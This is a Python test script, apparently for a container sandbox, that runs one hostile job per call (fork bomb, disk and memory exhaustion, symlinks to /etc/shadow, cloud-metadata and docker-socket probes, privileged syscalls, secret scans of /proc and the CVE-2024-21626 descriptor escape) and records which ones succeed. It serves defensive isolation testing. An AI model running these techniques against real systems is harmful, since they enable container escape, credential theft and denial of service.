"""What a hostile job tries, one attack a task: `python3 attacks.py NAME`. Runs inside of a cage, on nothing
but the standard library, and writes what it could do to /job/outputs/seen.json, unless the attack is what it
leaves.

A word in `seen` is something that worked and should not have; numbers are how far it got.
"""

from __future__ import annotations

import ctypes
import errno
import json
import mmap
import os
import signal
import socket
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path

OUTPUTS, TEMPORARY = Path("/job/outputs"), Path("/tmp")
SHARED = Path("/dev/shm")
MIB = 1 << 20
NEIGHBOUR_SOCKET = "\0prixfixe-neighbour"
NEIGHBOUR_PORT = 45454
TOKEN = json.loads(Path("/job/parameters.json").read_text())
LIBC = ctypes.CDLL(None, use_errno=True)


def tell(*worked: str, **measured: float) -> None:
    (OUTPUTS / "seen.json").write_text(json.dumps({"worked": sorted(worked), **measured}))


# ------------------------------------------------------------------------------------------------- resources


def fork_bomb() -> None:
    while True:
        with suppress(OSError):
            os.fork()


def memory() -> None:
    held = mmap.mmap(-1, 1024 * MIB)
    for at in range(0, len(held), mmap.PAGESIZE):
        held[at] = 1
    tell("held a gibibyte")


def page_cache() -> None:
    """Files of twice the memory, written and read again: the host's cache, paid from the task's memory."""
    for _ in range(2):
        place = TEMPORARY / "cache"
        place.write_bytes(b"\1" * (24 * MIB))
        for _ in range(8):
            place.read_bytes()
    tell()


def spin() -> None:
    """Two processes that never rest, on half a processor."""
    child = os.fork()
    until = time.monotonic() + 2.0
    while time.monotonic() < until:
        pass
    if child == 0:
        os._exit(0)
    os.waitpid(child, 0)
    used = os.times()
    tell(processors=(used.user + used.system + used.children_user + used.children_system) / 2.0)


def ignores_signals() -> None:
    for number in range(1, signal.NSIG):
        with suppress(OSError, ValueError):
            signal.signal(number, signal.SIG_IGN)
    while True:
        pass


def _fill(place: Path) -> float:
    """MiB that fit, deleted again."""
    written, block = 0, b"\1" * MIB
    file = place / "filler"
    with suppress(OSError), file.open("wb", buffering=0) as stream:
        while written < 4096 * MIB:
            written += stream.write(block)
    file.unlink(missing_ok=True)
    return written / MIB


def fill_outputs() -> None:
    tell(mib=_fill(OUTPUTS))


def fill_temporary() -> None:
    tell(mib=_fill(TEMPORARY))


def fill_shared() -> None:
    tell(mib=_fill(SHARED))


def log_burst() -> None:
    line = b"all work and no play " * 50 + b"\n"
    for _ in range(1024 * MIB // len(line)):
        sys.stdout.buffer.write(line)


def log_line() -> None:
    block = b"x" * MIB
    for _ in range(1024):
        sys.stdout.buffer.write(block)


# --------------------------------------------------------------------------------------------------- outputs


def many_files() -> None:
    """As many as fit, and no seen.json: each entry is the attack."""
    for number in range(100_000):
        os.close(os.open(OUTPUTS / f"f{number}", os.O_CREAT | os.O_WRONLY))


def sparse() -> None:
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    with suppress(OSError):
        with (OUTPUTS / "giant").open("wb") as stream:
            stream.truncate(1 << 40)
        return
    for number in range(3):  # the limit on one file held: several, each below it
        with (OUTPUTS / f"giant{number}").open("wb") as stream:
            stream.truncate(30 * MIB)


def name_with_newline() -> None:
    (OUTPUTS / "two\nlines").write_text("x")


def name_not_utf8() -> None:
    os.close(os.open(os.fsencode(OUTPUTS) + b"/\xff\xfe", os.O_CREAT | os.O_WRONLY))


def name_that_climbs() -> None:
    (OUTPUTS / "..\\..\\evil").write_text("x")


def name_of_255_bytes() -> None:
    (OUTPUTS / ("n" * 255)).write_text("x")
    tell()


def symbolic_link() -> None:
    (OUTPUTS / "result").symlink_to("/etc/shadow")


def link_in_a_folder() -> None:
    (OUTPUTS / "folder").symlink_to("/")


def hard_link() -> None:
    (OUTPUTS / "a").write_text("x")
    os.link(OUTPUTS / "a", OUTPUTS / "b")


def device() -> None:
    try:
        os.mknod(OUTPUTS / "disk", 0o600 | 0o060000, os.makedev(7, 0))
    except OSError:
        tell()


def named_pipe() -> None:
    try:
        os.mkfifo(OUTPUTS / "pipe")
    except OSError:
        tell()


def listening_socket() -> None:
    try:
        with socket.socket(socket.AF_UNIX) as server:
            server.bind(str(OUTPUTS / "socket"))
    except OSError:
        tell()


# --------------------------------------------------------------------------------------------------- network


def _reached(kind: int, address: tuple[str, int]) -> bool:
    family = socket.AF_INET6 if ":" in address[0] else socket.AF_INET
    with suppress(OSError), socket.socket(family, kind) as one:
        one.settimeout(0.3)
        one.connect(address)
        if kind == socket.SOCK_STREAM:
            return True
        one.send(b"hello?")
        return bool(one.recv(100))
    return False


def network() -> None:
    """Everything that the test says is there to be reached, and what is on most machines."""
    places = [*map(tuple, TOKEN["listening"]), ("169.254.169.254", 80), ("fe80::1", 80), ("::1", 22)]
    outside = [place[0] for place in places if not place[0].startswith("127.")]  # its own loopback answers
    worked = [f"tcp {place}" for place in places if _reached(socket.SOCK_STREAM, place)]
    worked += [f"udp {place}" for place in places if _reached(socket.SOCK_DGRAM, place)]
    for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM):
        with suppress(OSError), socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as ping:
            ping.settimeout(0.3)
            ping.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", (outside[0], 0))
            worked.append(f"icmp {ping.recv(100)!r}")
    for name in ("localhost.localdomain", "host.docker.internal", "example.org"):
        with suppress(OSError):
            worked.append(f"dns {name} {socket.gethostbyname(name)}")
    for family, kind in ((socket.AF_PACKET, socket.SOCK_RAW), (40, socket.SOCK_STREAM)):  # 40: vsock
        with suppress(OSError), socket.socket(family, kind) as link:
            link.settimeout(0.3)
            link.connect((2, 22) if family == 40 else ("eth0", 0))
            worked.append(f"family {family}")
    tell(*worked)


def neighbour() -> None:
    """The task beside this one listens on an abstract socket and a port, and has files and processes."""
    worked = []
    with suppress(OSError), socket.socket(socket.AF_UNIX) as one:
        one.settimeout(0.3)
        one.connect(NEIGHBOUR_SOCKET)
        worked.append("its socket")
    if _reached(socket.SOCK_STREAM, ("127.0.0.1", NEIGHBOUR_PORT)):
        worked.append("its port")
    others = [pid for pid in os.listdir("/proc") if pid.isdigit()]
    worked += [f"{len(others)} processes"] if len(others) > 8 else []
    worked += [str(path) for path in _files() if path.name == "neighbour-was-here"]
    identifier = LIBC.shmget(0x70726978, 4096, 0)
    worked += ["its shared memory"] if identifier >= 0 else []
    tell(*worked)


# ------------------------------------------------------------------------------------------------ the kernel


def _call(number: int, *arguments: object) -> bool:
    """Whether a system call worked (x86-64 numbers)."""
    ctypes.set_errno(0)
    return int(LIBC.syscall(number, *arguments)) >= 0


def system_calls() -> None:
    buffer = ctypes.create_string_buffer(256)
    attempts: dict[str, Callable[[], bool]] = {
        "mount": lambda: _call(165, b"none", b"/tmp", b"tmpfs", 0, None),
        "umount": lambda: _call(166, b"/job", 2),
        "pivot_root": lambda: _call(155, b"/tmp", b"/tmp"),
        "chroot": lambda: _call(161, b"/"),
        "ptrace of the worker": lambda: any(_call(101, 16, pid, 0, 0) for pid in TOKEN["pids"]),
        "memory of the worker": lambda: any(
            _worked(lambda at=f"/proc/{pid}/mem": _readable(at)) for pid in TOKEN["pids"]
        ),
        "add_key": lambda: _call(248, b"user", b"a", b"b", 1, -3),
        "keyctl": lambda: _call(250, 0, -3, 1),
        "bpf": lambda: _call(321, 0, buffer, 128),
        "perf_event_open": lambda: _call(298, buffer, 0, -1, -1, 0),
        "setuid": lambda: _call(105, 0),
        "setgid": lambda: _call(106, 0),
        "setgroups": lambda: _call(116, 1, (ctypes.c_uint * 1)(0)),
        "init_module": lambda: _call(175, buffer, 16, b""),
        "finit_module": lambda: _call(313, 0, b"", 0),
        "kexec_load": lambda: _call(246, 0, 0, None, 0),
        "reboot": lambda: _call(169, 0xFEE1DEAD, 672274793, 0x89ABCDEF, None),
        "clock_settime": lambda: _call(227, 0, (ctypes.c_long * 2)(1, 0)),
        "settimeofday": lambda: _call(164, (ctypes.c_long * 2)(1, 0), None),
        "adjtimex": lambda: _adjusts_the_clock(),
        "sethostname": lambda: _call(170, b"x", 1),
        "swapon": lambda: _call(167, b"/tmp/x", 0),
        "quotactl": lambda: _call(179, 0x800002, b"/dev/sda", 0, None),
        "open_by_handle_at": lambda: _call(304, -100, buffer, 0),
        "userfaultfd": lambda: _call(323, 0),
        "setns": lambda: _readable("/proc/1/ns/net") and _call(308, os.open("/proc/1/ns/net", 0), 0),
        "unshare of mounts": lambda: _call(272, 0x00020000),
        "write to the kernel's settings": lambda: _writable("/proc/sys/kernel/core_pattern"),
        "write to sysrq": lambda: _writable("/proc/sysrq-trigger"),
        "write to its own limits": lambda: any(
            _worked(lambda at=str(path): _writable(at)) for path in Path("/sys/fs/cgroup").rglob("*")
        ),
        "raise its own limits": lambda: _raises_a_limit(),
    }
    tell(*(name for name, attempt in attempts.items() if _worked(attempt)))


def _worked(attempt: Callable[[], bool]) -> bool:
    with suppress(OSError, ValueError):
        return attempt()
    return False


def _adjusts_the_clock() -> bool:
    fields = (ctypes.c_long * 64)()
    fields[0], fields[1] = 0x0001, 1  # ADJ_OFFSET; without a mode it only reads
    return _call(159, fields)


def _raises_a_limit() -> bool:
    import resource

    before = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (before[0] * 2, before[1] * 2))
    return True


def _readable(path: str) -> bool:
    with open(path, "rb") as stream:
        stream.read(1)
    return True


def _writable(path: str) -> bool:
    os.close(os.open(path, os.O_WRONLY))
    return True


# --------------------------------------------------------------------------------------------------- secrets


def _files() -> Iterator[Path]:
    for folder, folders, names in os.walk("/", onerror=lambda error: None):
        if folder == "/":
            folders[:] = [each for each in folders if each not in ("proc", "sys")]
        yield from (Path(folder, name) for name in names)


def secrets() -> None:
    """The engine's socket, the worker's wallet and anything with its token, wherever it might be."""
    worked = []
    for path in _files():
        if path.name in ("docker.sock", "containerd.sock", TOKEN["wallet"]):
            worked.append(str(path))
        if path.is_socket():
            worked.append(f"socket {path}")
    for place in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock"):
        with suppress(OSError), socket.socket(socket.AF_UNIX) as one:
            one.connect(place)
            worked.append(place)
    secret = TOKEN["secret"].encode()[::-1]  # as it is in the parameters it would find itself
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for name in ("environ", "cmdline"):
            with suppress(OSError):
                if secret in Path("/proc", pid, name).read_bytes():
                    worked.append(f"{name} of {pid}")
    with suppress(OSError):
        if os.open("/dev/mem", os.O_RDONLY):
            worked.append("memory of the host")
    worked += [name for name in os.environ if "KEY" in name or "PASS" in name or "DOCKER" in name]
    tell(*worked)


def past_its_root() -> None:
    """Up and out by every way that led out of containers before."""
    worked = []
    for place in ("/proc/1/root/..", "/proc/self/cwd/../../../../..", "/job/outputs/../../.."):
        with suppress(OSError):
            if TOKEN["wallet"] in os.listdir(place) or "docker" in os.listdir(f"{place}/var/lib"):
                worked.append(place)
    for number in range(3, 64):  # a descriptor that the runtime forgot (CVE-2024-21626)
        with suppress(OSError):
            os.listdir(f"/proc/self/fd/{number}/../../../../../../var/lib/docker")
            worked.append(f"descriptor {number}")
    with suppress(OSError):
        Path("/proc/self/exe").resolve().open("r+b").close()
        worked.append("the program that runs it")
    for place in ("/", "/usr", "/etc", "/job", "/job/inputs", "/dev", "/sys", "/proc", "/var", "/run"):
        with suppress(OSError):
            (Path(place) / "probe").write_text("x")
            worked.append(f"wrote {place}")
    with suppress(OSError):
        Path("/job/inputs/attacks.py").write_text("")
        worked.append("changed its input")
    tell(*worked)


if __name__ == "__main__":
    sys.dont_write_bytecode = True
    try:
        globals()[sys.argv[1]]()
    except OSError as failed:
        if failed.errno not in (errno.ENOSPC, errno.EMFILE):
            raise
